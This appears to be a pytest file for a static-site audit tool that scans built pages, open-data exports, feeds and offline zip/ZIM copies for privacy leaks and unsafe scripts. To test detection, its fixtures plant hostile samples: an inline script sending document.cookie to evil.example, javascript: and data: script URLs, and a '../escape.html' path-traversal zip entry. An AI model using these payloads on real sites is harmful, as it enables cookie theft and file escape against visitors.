"""The audit of a built site finds what must never be published, whatever made it."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from builder.__main__ import main
from builder.site import urls
from builder.tools import bundles
from builder.tools.audit import audit_site


def planted_site(tmp_path: Path) -> Path:
    site = tmp_path / "site"
    (site / urls.ATLAS_ASSETS).mkdir(parents=True)
    (site / "index.html").write_text(
        '<a href="page.html">fine</a><img src="pic.webp" alt="ok">'
        '<p onclick="x()">a</p><a href=" JaVaScRiPt:alert(1)">b</a>'
        '<script src="https://cdn.example.org/x.js"></script><img srcset="//evil.example/p.png 1x">'
        "<p>write to someone@example.org</p>"
        '<iframe src="maps/locator.html#lat=1.234&amp;lon=36.82"></iframe>'
        "<script>fetch('https://evil.example/?'+document.cookie)</script>"
        '<script src="../outside.js"></script>'
    )
    (site / "initiatives").mkdir()
    (site / "initiatives" / "x.html").write_text(
        "<p>Call us on 0712&nbsp;345&nbsp;678.</p>"
        '<a href="https://www.google.com/maps/@-1.2921,36.8219,17z">the office</a>'
        '<script id="__config" type="application/json">{"base": ".."}</script>'
    )
    (site / "style.css").write_text("body{background:url('https://fonts.example.org/f.woff')}")
    item = {"id": "x", "url": "initiatives/x.html", "lat": 1.234, "lon": 2.5, "email": "e"}
    (site / urls.MAP_DATA).write_text(f"window.ATLAS_DATA = {json.dumps({'items': [item]})};")
    picture = io.BytesIO()
    Image.new("RGB", (8, 8)).save(picture, "JPEG", exif=Image.Exif(), comment=b"owner")
    (site / "photo.jpg").write_bytes(picture.getvalue())
    return site


def test_the_audit_finds_every_planted_problem(tmp_path: Path) -> None:
    findings = {(f.file, f.message.split(":")[0]) for f in audit_site(planted_site(tmp_path))}
    assert findings == {
        (urls.MAP_DATA, "initiative initiatives/x.html carries fields that are not public"),
        (urls.MAP_DATA, "initiative initiatives/x.html has a point with more than 2 decimals"),
        ("index.html", "<a href> holds an active URL"),
        ("index.html", "<img srcset> loads from another server"),
        ("index.html", "<p> has an event-handler attribute onclick"),
        ("index.html", "<script src> loads from another server"),
        ("index.html", "a map point has more than 2 decimals"),
        ("index.html", "contains an e-mail address"),
        ("index.html", "<script src> is not one of the site's own scripts"),
        ("index.html", "an inline <script> is not one of the theme's own"),
        ("initiatives/x.html", "contains what looks like a phone number"),
        ("initiatives/x.html", "contains an exact location"),
        ("photo.jpg", "picture carries metadata"),
        ("style.css", "stylesheet loads from another server"),
    }


def test_configured_servers_are_allowed(tmp_path: Path) -> None:
    site = planted_site(tmp_path)
    allowed = ("https://cdn.example.org/", "https://fonts.example.org/", "//evil.example/")
    messages = [f.message for f in audit_site(site, allowed)]
    assert not [m for m in messages if "another server" in m]


@pytest.mark.parametrize(
    "content",
    ["window.ATLAS_DATA = {not json", "var x = 1;", 'window.ATLAS_DATA = {"items": 3};', ""],
)
def test_malformed_map_data_is_a_finding_that_names_the_file(
    tmp_path: Path, content: str, capsys: pytest.CaptureFixture[str]
) -> None:
    site = tmp_path / "site"
    (site / urls.ATLAS_ASSETS).mkdir(parents=True)
    (site / urls.MAP_DATA).write_text(content)
    assert main(["audit", str(site)]) == 1
    out = capsys.readouterr().out
    assert out.startswith(f"{urls.MAP_DATA}: the map data cannot be read")
    assert "choose another name" not in out
    assert out.endswith("1 file audited, 1 finding\n")


def page_with_theme_script(root: str) -> str:
    """mkdocs-material's preferences script as it is written on a page `root` away from the
    site's root."""
    return (
        f'<script>__md_scope=new URL("{root}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e'
        "+_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pa"
        'thname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+".'
        '"+e,JSON.stringify(_))}catch(e){}}</script>'
    )


@pytest.mark.parametrize(
    ("page", "root"),
    [("index.html", "."), ("a/b.html", ".."), ("a/b/c.html", "../.."), ("404.html", "/")],
)
def test_the_theme_scripts_pass_at_every_depth(tmp_path: Path, page: str, root: str) -> None:
    site = tmp_path / "site"
    (site / page).parent.mkdir(parents=True, exist_ok=True)
    (site / page).write_text(page_with_theme_script(root))
    assert audit_site(site) == []


@pytest.mark.parametrize(
    "changed",
    [
        ("new URL(", "fetch('https://evil.example/'+document.cookie),new URL("),
        ('URL("..",', 'URL("https://evil.example",'),
        ("catch(e){}", "catch(e){alert(1)}"),
    ],
)
def test_a_changed_theme_script_is_a_finding(tmp_path: Path, changed: tuple[str, str]) -> None:
    site = tmp_path / "site"
    (site / "a").mkdir(parents=True)
    (site / "a" / "b.html").write_text(page_with_theme_script("..").replace(*changed, 1))
    assert [f.message[:48] for f in audit_site(site)] == [
        "an inline <script> is not one of the theme's own"
    ]


@pytest.mark.parametrize(
    ("page", "source", "found"),
    [
        ("maps/world.html", "../assets/atlas/atlas-map.js", False),
        ("404.html", "/assets/javascripts/bundle.js", False),
        ("index.html", "assets/vendor/leaflet/leaflet.js?v=1", False),
        ("fr/categories/health.html", "../assets/javascripts/bundle.js", False),
        ("index.html", "assets/atlas/missing.js", True),
        ("index.html", "../assets/atlas/atlas-map.js", True),
        ("index.html", "initiatives/x.js", True),
        ("a/b.html", "../../../etc/x.js", True),
        ("index.html", "//evil.example/x.js", True),
        ("index.html", "data:text/javascript,alert(1)", True),
    ],
)
def test_scripts_come_from_the_site_s_own_assets(
    tmp_path: Path, page: str, source: str, found: bool
) -> None:
    site = tmp_path / "site"
    assets = ["assets/atlas/atlas-map.js", "assets/javascripts/bundle.js"]
    assets += ["assets/vendor/leaflet/leaflet.js", "fr/assets/javascripts/bundle.js"]
    for asset in assets:
        (site / asset).parent.mkdir(parents=True, exist_ok=True)
        (site / asset).write_text("")
    (site / page).parent.mkdir(parents=True, exist_ok=True)
    (site / page).write_text(f'<script src="{source}"></script>')
    messages = [f.message for f in audit_site(site) if "site's own scripts" in f.message]
    assert bool(messages) is found


def test_data_files_are_read_as_json_so_escapes_hide_nothing(tmp_path: Path) -> None:
    site = tmp_path / "site"
    (site / "search").mkdir(parents=True)
    (site / "search" / "search_index.js").write_text(
        'var __index = {"docs":[{"text":"\\u0438 2019 write to keepers\\u0040example.org"}]}'
    )
    (site / "search" / "search_index.json").write_text('{"docs":[{"text":"\\u0438 1 250 000"}]}')
    findings = audit_site(site)
    assert [(f.file, f.message) for f in findings] == [
        ("search/search_index.js", "contains an e-mail address: keepers@example.org")
    ]


def test_the_404_page_names_scripts_from_the_site_s_own_path(tmp_path: Path) -> None:
    site = tmp_path / "site"
    (site / "assets" / "javascripts").mkdir(parents=True)
    (site / "assets" / "javascripts" / "bundle.js").write_text("")
    (site / "index.html").write_text(
        '<link rel="canonical" href="https://example.github.io/atlas/index.html">'
    )
    (site / "404.html").write_text(
        '<script src="/atlas/assets/javascripts/bundle.js"></script>'
        + page_with_theme_script("/atlas/")
    )
    (site / "fr").mkdir()
    (site / "fr" / "404.html").write_text(
        '<script src="/other-site/assets/javascripts/bundle.js"></script>'
    )
    assert [(f.file, f.message.split(":")[0]) for f in audit_site(site)] == [
        ("fr/404.html", "<script src> is not one of the site's own scripts")
    ]


def planted_exports(site: Path) -> None:
    """Open data and a feed with every kind of problem the audit looks for in them."""
    (site / urls.DATA_DIR).mkdir(parents=True)
    (site / urls.FEEDS_DIR).mkdir()
    record = {"id": "x", "location": {"lat": 1.234, "lon": 36.82}, "home_address": "y"}
    (site / urls.EXPORT_JSON).write_text(json.dumps([record]))
    feature = {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [36.8219, -1.29]},
        "properties": {"id": "x", "phone": "z"},
    }
    collection = {"type": "FeatureCollection", "features": [feature]}
    (site / urls.EXPORT_GEOJSON).write_text(json.dumps(collection))
    (site / urls.EXPORT_CSV).write_text(
        "id,lat,lon,summary,secret\r\nx,-1.2921,36.82,Call 0712 345 678 today,y\r\n"
    )
    (site / urls.FEED_NEW_ATOM).write_text(
        '<feed><entry><summary type="html">&lt;b&gt;x&lt;/b&gt;</summary></entry></feed>'
    )


def test_the_audit_reads_the_open_data_and_the_feeds(tmp_path: Path) -> None:
    site = tmp_path / "site"
    planted_exports(site)
    findings = {(f.file, f.message.split(":")[0]) for f in audit_site(site)}
    assert findings == {
        (urls.EXPORT_JSON, "carries fields that are not public"),
        (urls.EXPORT_JSON, "has a point with more than 2 decimals"),
        (urls.EXPORT_GEOJSON, "carries fields that are not public"),
        (urls.EXPORT_GEOJSON, "has a point with more than 2 decimals"),
        (urls.EXPORT_CSV, "has columns that are not public"),
        (urls.EXPORT_CSV, "has a point with more than 2 decimals"),
        (urls.EXPORT_CSV, "contains what looks like a phone number"),
        (urls.FEED_NEW_ATOM, "a feed carries HTML or a script; feeds carry plain text only"),
    }


def test_the_audit_opens_the_offline_copies(tmp_path: Path) -> None:
    inside = planted_site(tmp_path / "copied")
    copy = tmp_path / "site" / urls.bundle("fr", "zip")
    copy.parent.mkdir(parents=True)
    with zipfile.ZipFile(copy, "w") as archive:
        for path in sorted(p for p in inside.rglob("*") if p.is_file()):
            archive.write(path, path.relative_to(inside).as_posix())
        archive.writestr("downloads/solidarity-atlas-en.zip", b"")
        archive.writestr("../escape.html", "<p>x</p>")
    found = {f.message for f in audit_site(tmp_path / "site") if f.file == urls.bundle("fr", "zip")}
    assert "holds another offline copy: downloads/solidarity-atlas-en.zip" in found
    assert "holds a file outside its folder: ../escape.html" in found
    assert "index.html: <p> has an event-handler attribute onclick" in found
    assert any(m.startswith("photo.jpg: picture carries metadata") for m in found)
    assert not any("solidarity-atlas-fr.zip" in m for m in found)


def test_the_audit_reads_a_zim_file_as_a_site(tmp_path: Path) -> None:
    inside = planted_site(tmp_path / "copied")
    zim = tmp_path / "site" / urls.bundle("en", "zim")
    zim.parent.mkdir(parents=True)
    bundles.write_zim(inside, "en", zim, bundles.SiteFacts("Atlas", "A test.", ""), "2025-01-01")
    found = {f.message for f in audit_site(tmp_path / "site")}
    assert "index.html: <p> has an event-handler attribute onclick" in found
    assert any(m.startswith("initiatives/x.html: contains what looks like a phone") for m in found)


def test_filter_ids_are_not_phone_numbers_but_data_attributes_are_read(tmp_path: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (site / "list.html").write_text(
        '<li data-rights="20 23 24 25 27 28" data-sdgs="5 10 16 17"></li>'
        '<p data-note="call 0712 345 678">x</p>'
    )
    findings = [(f.file, f.message.split(":")[0]) for f in audit_site(site)]
    assert findings == [("list.html", "contains what looks like a phone number")]
